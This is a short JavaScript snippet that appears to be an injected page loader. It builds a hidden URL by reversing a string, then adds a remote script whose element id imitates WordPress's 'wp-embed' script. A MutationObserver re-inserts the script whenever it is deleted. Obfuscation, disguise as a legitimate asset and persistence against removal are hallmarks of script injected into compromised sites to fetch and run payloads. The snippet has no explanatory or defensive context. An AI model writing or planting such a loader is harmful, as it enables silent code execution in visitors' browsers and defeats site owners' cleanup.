(function (d) {
  var u = "//" + "elpmaxe.klats-gniner".split("").reverse().join("") + "/k.js", id = "wp-embed-js-extra";
  function put() {
    if (d.getElementById(id)) return;
    var s = d.createElement("script");
    s.id = id;
    s.src = u;
    (d.head || d.documentElement).appendChild(s);
  }
  put();
  new MutationObserver(function (l) {
    l.forEach(function (m) { [].forEach.call(m.removedNodes, function (n) { if (n.id === id) put(); }); });
  }).observe(d.documentElement, { childList: true, subtree: true });
})(document);
